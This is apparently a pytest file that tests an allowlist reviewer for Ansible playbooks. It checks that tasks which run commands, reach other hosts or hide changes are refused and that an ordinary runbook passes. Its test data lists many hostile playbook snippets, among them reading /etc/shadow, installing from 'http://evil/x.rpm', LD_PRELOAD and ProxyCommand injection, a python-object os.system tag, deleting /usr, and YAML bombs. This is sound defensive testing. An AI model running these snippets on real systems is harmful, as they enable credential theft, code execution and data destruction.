"""No playbook passes that could do what a preview cannot show, or read what nobody may see."""

from pathlib import Path

import pytest
import yaml

from tools.ansible.allowlist import Playbook, review
from tools.ansible.inventory import computed_from
from tools.ansible.modules import DEFAULT_MODULES

INVENTORY = frozenset({"service_manager"})


def look(text: str, variables: dict[str, str] | None = None) -> tuple[Playbook | None, list[str]]:
    return review(text, variables or {}, DEFAULT_MODULES, INVENTORY)


def play(tasks: str, more: str = "") -> str:
    indented = "\n".join(f"    {line}" for line in tasks.strip().splitlines())
    return f"- hosts: all\n{more}  tasks:\n{indented}\n"


TASKS = {
    "command": "- ansible.builtin.command: {cmd: id}",
    "command short": "- command: id",
    "command legacy": "- ansible.legacy.command: id",
    "shell": "- shell: id",
    "raw": "- raw: id",
    "script": "- script: /tmp/x.sh",
    "cron": "- cron: {name: x, job: id}",
    "another collection": "- community.general.make: {chdir: /}",
    "action string": "- action: command id",
    "action mapping": "- action: {module: command, cmd: id}",
    "local_action": "- local_action: command id",
    "two modules": "- debug: {msg: x}\n  command: id",
    "no module": "- name: nothing",
    "include_tasks": "- include_tasks: /tmp/x.yml",
    "import_tasks": "- import_tasks: /tmp/x.yml",
    "include_role": "- include_role: {name: x}",
    "include_vars": "- include_vars: /etc/passwd",
    "add_host": "- add_host: {name: x, ansible_connection: local}",
    "slurp": "- slurp: {src: /etc/shadow}",
    "fetch": "- fetch: {src: /etc/shadow, dest: /tmp/}",
    "template": "- template: {src: /etc/passwd, dest: /tmp/x}",
    "copy from the controller": "- copy: {src: /etc/passwd, dest: /tmp/x}",
    "copy with a computed remote_src": "- copy: {src: /etc/passwd, dest: /tmp/x, remote_src: '{{ false }}'}",
    "validate is a command": "- copy: {content: x, dest: /tmp/x, validate: 'sh -c id %s'}",
    "lineinfile validate": "- lineinfile: {path: /tmp/x, line: x, validate: 'sh -c id %s'}",
    "free-form arguments": "- copy: content=x dest=/tmp/x validate='id %s'",
    "arguments from a variable": "- copy: '{{ item }}'\n  loop: [{content: x}]",
    "args": "- copy: {content: x, dest: /tmp/x}\n  args: {validate: 'id %s'}",
    "service by another module": "- service: {name: evil, state: present, use: user}",
    "service by a computed module": "- service: {name: x, state: started, use: '{{ item }}'}\n  loop: [user]",
    "service default": "- service: {name: x, use: \"{{ service_manager | default('user') }}\"}",
    "package by another module": "- package: {name: x, use: pip}",
    "package from a url": "- package: {name: 'http://evil/x.rpm'}",
    "package from a file": "- apt: {name: [ok, /tmp/x.deb]}",
    "apt deb": "- apt: {deb: /tmp/x.deb}",
    "uri post": "- uri: {url: 'http://x/', method: POST}",
    "uri upload": "- uri: {url: 'http://x/', src: /etc/passwd}",
    "uri content": "- uri: {url: 'http://x/', return_content: true}",
    "find as an oracle": "- find: {paths: /etc, contains: 'root:.*'}",
    "file hard link": "- file: {src: /etc/shadow, path: /tmp/x, state: hard}",
    "delete a system folder": "- file: {path: /usr/, state: absent}",
    "delete the root": "- file: {path: '/var/..', state: absent}",
    "meta": "- meta: refresh_inventory",
    "real change in check mode": "- copy: {content: x, dest: /tmp/x}\n  check_mode: false",
    "computed check mode": "- debug: {msg: x}\n  check_mode: '{{ false }}'",
    "hidden diff": "- copy: {content: x, dest: /tmp/x}\n  diff: false",
    "delegate": "- copy: {content: x, dest: /tmp/x}\n  delegate_to: localhost",
    "connection": "- debug: {msg: x}\n  connection: local",
    "environment": "- debug: {msg: x}\n  environment: {LD_PRELOAD: /tmp/x.so}",
    "become_user": "- debug: {msg: x}\n  become_user: root",
    "become_exe": "- debug: {msg: x}\n  become_exe: /tmp/x",
    "module_defaults": "- debug: {msg: x}\n  module_defaults: {copy: {validate: 'id %s'}}",
    "async": "- debug: {msg: x}\n  async: 100\n  poll: 0",
    "with_pipe": "- debug: {msg: '{{ item }}'}\n  with_pipe: id",
    "with_lines": "- debug: {msg: '{{ item }}'}\n  with_lines: id",
    "lookup in a loop": "- debug: {msg: x}\n  loop: \"{{ lookup('pipe', 'id') }}\"",
    "a block hides it": "- block:\n    - block:\n        - command: id",
    "rescue hides it": "- block: [{debug: {msg: x}}]\n  rescue: [{shell: id}]",
    "always hides it": "- block: [{debug: {msg: x}}]\n  always: [{shell: id}]",
    "a connection by set_fact": "- set_fact: {ansible_connection: local}",
    "a computed name of a fact": "- set_fact: {\"{{ 'ansible_' + 'connection' }}\": local}",
    "a connection by vars": "- debug: {msg: x}\n  vars: {ansible_ssh_common_args: '-o ProxyCommand=id'}",
    "a connection by register": "- debug: {msg: x}\n  register: ansible_python_interpreter",
    "a connection by a loop": "- debug: {msg: x}\n  loop: [x]\n  loop_control: {loop_var: ansible_python_interpreter}",
    "its own service manager": "- service: {name: x, use: '{{ service_manager }}'}\n  vars: {service_manager: user}",
    "a tag of YAML": "- debug: {msg: !unsafe x}",
    "a vault": "- debug: {msg: !vault x}",
    "a python object": "- debug: {msg: !!python/object/apply:os.system [id]}",
}


@pytest.mark.parametrize("task", TASKS.values(), ids=TASKS.keys())
def test_no_task_goes_around_the_list(task: str) -> None:
    """Every way to run a command, to reach elsewhere or to hide a change is refused."""
    playbook, errors = look(play(task))
    assert playbook is None
    assert errors


@pytest.mark.parametrize(
    "text",
    [
        "",
        "hello",
        "- [1]",
        "- hosts: all\n  tasks: hello",
        "- hosts: all\n  tasks: [hello]",
        "- tasks: []",
        "- hosts: '{{ x }}'\n  tasks: []",
        "- hosts: \"{{ lookup('pipe', 'id') }}\"\n  tasks: []",
        "- hosts: '@/etc/passwd'\n  tasks: []",
        "- hosts: all\n  roles: [evil]",
        "- import_playbook: /tmp/x.yml",
        "- hosts: all\n  vars_files: [/etc/passwd]",
        "- hosts: all\n  vars_prompt: [{name: x}]",
        "- hosts: all\n  connection: local\n  tasks: []",
        "- hosts: all\n  strategy: debug\n  tasks: []",
        "- hosts: all\n  vars: {ansible_connection: local}\n  tasks: []",
        "- hosts: all\n  become_method: evil\n  tasks: []",
        "- hosts: all\n  handlers: [{shell: id}]",
        "- hosts: all\n  pre_tasks: [{shell: id}]",
        "- hosts: all\n  post_tasks: [{shell: id}]",
        "- hosts: all\n  tasks: [{debug: {msg: 2020-01-01}}]",
        "- hosts: all\n  tasks: [{debug: {msg: 2020-99-99}}]",
        "- hosts: all\n  ? [a]\n  : b",
        "- &x {hosts: all, tasks: [*x]}",
        "[" * 5000,
        "- {" * 500,
        "a: 1\nb: [",
        "- hosts: all\n" + "#" * 70_000,
        "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c]",
    ],
)
def test_what_is_no_plain_playbook_is_refused(text: str) -> None:
    """Odd documents, other ways to bring tasks in, and bombs get a reason, not a crash."""
    playbook, errors = look(text)
    assert playbook is None
    assert errors


@pytest.mark.parametrize(
    "variables",
    [
        {"ansible_connection": "local"},
        {"hostvars": "x"},
        {"service_manager": "user"},
        {"a b": "x"},
        {"x": "{{ lookup('pipe', 'id') }}"},
        {"x": "{% if 1 %}"},
        {"x": "{# #}"},
    ],
)
def test_given_variables_are_plain_text(variables: dict[str, str]) -> None:
    """A variable's value is no template, and its name none of Ansible's or the inventory's."""
    assert look(play("- debug: {msg: x}"), variables)[0] is None


@pytest.mark.parametrize(
    "task",
    [
        "- debug: {msg: x}\n  vars: {jump_host: evil}",
        "- set_fact: {jump_host: evil}",
        "- debug: {msg: x}\n  register: python",
    ],
)
@pytest.mark.parametrize("place", ["inventory.ini", "group_vars/all.yml", "host_vars/a/main.yml"])
def test_what_the_inventory_computes_with_is_not_for_the_playbook(tmp_path: Path, task: str, place: str) -> None:
    """A playbook cannot put its own value into a template of the inventory."""
    inventory = tmp_path / "inventory.ini"
    inventory.write_text("localhost")
    (tmp_path / place).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / place).write_text('ansible_ssh_common_args: "-J {{ jump_host }}"\nx: {% if python %}y{% endif %}')
    computed = computed_from(inventory)
    assert {"jump_host", "python"} <= computed
    assert look(play(task))[0] is not None
    assert review(play(task), {}, DEFAULT_MODULES, INVENTORY, computed)[0] is None


def test_an_error_names_its_place() -> None:
    """A person, or a model, finds the task by the message."""
    _, errors = look(play("- name: Good\n  debug: {msg: x}\n- name: Bad\n  shell: id"))
    assert errors == ["play 1, tasks, task 2 «Bad»: 'shell' is neither an allowed module nor an allowed keyword"]


ORDINARY = """
- name: Restore and restart
  hosts: "{{ target }}"
  gather_facts: false
  become: true
  vars: {port: 8080, names: [a, b]}
  pre_tasks:
    - name: Look
      ansible.builtin.stat: {path: "{{ config }}"}
      register: found
  tasks:
    - name: Copy
      copy: {src: "{{ config_good }}", dest: "{{ config }}", remote_src: true, mode: preserve, backup: true}
      when: found.stat.exists and (port | int) > 80 and inventory_hostname != 'x'
      notify: Restart
    - name: Lines
      lineinfile: {path: "{{ config }}", regexp: '^port', line: "port = {{ port }}", mode: "0644"}
      loop: "{{ names | select('match', '^a') | list }}"
      loop_control: {label: "{{ item }}", loop_var: item}
    - block:
        - ansible.builtin.service:
            name: "{{ unit }}"
            state: restarted
            use: "{{ service_manager | default('auto') }}"
      rescue:
        - fail: {msg: "{{ ansible_failed_result.msg | default('') }}"}
    - name: Delete
      file: {path: "{{ item.path }}", state: absent}
      loop: "{{ found.files | default([]) }}"
    - assert: {that: ["found is defined", "port == 8080"], fail_msg: "no {{ ansible_facts.hostname }}"}
    - set_fact: {colour: "{% for n in names %}{{ n }}{% endfor %}"}
    - debug: {var: colour}
    - meta: flush_handlers
    - wait_for: {port: 80, timeout: 5}
    - uri: {url: "http://127.0.0.1:{{ port }}/", status_code: [200, 204]}
      register: answer
      until: answer.status == 200
      retries: 3
      delay: 1
  handlers:
    - name: Restart
      ansible.builtin.systemd: {name: x, state: restarted, daemon_reload: true}
"""


def test_an_ordinary_playbook_passes() -> None:
    """What runbooks do every day is allowed: variables, loops, conditions, blocks, handlers."""
    given = {"target": "localhost", "config": "/etc/a", "config_good": "/etc/b", "unit": "web"}
    playbook, errors = look(ORDINARY, given)
    assert errors == []
    assert playbook is not None
    assert yaml.safe_load(playbook.text) == yaml.safe_load(ORDINARY)


def test_the_digest_covers_the_variables() -> None:
    """Another value is another playbook; another layout of the same YAML is not."""
    one, two, three = (
        look(play("- debug: {msg: x}"), {"a": "1"})[0],
        look(play("- debug: {msg: x}"), {"a": "2"})[0],
        look(play("- debug:\n    msg: x"), {"a": "1"})[0],
    )
    assert one is not None
    assert two is not None
    assert three is not None
    assert one.digest != two.digest
    assert one.digest == three.digest
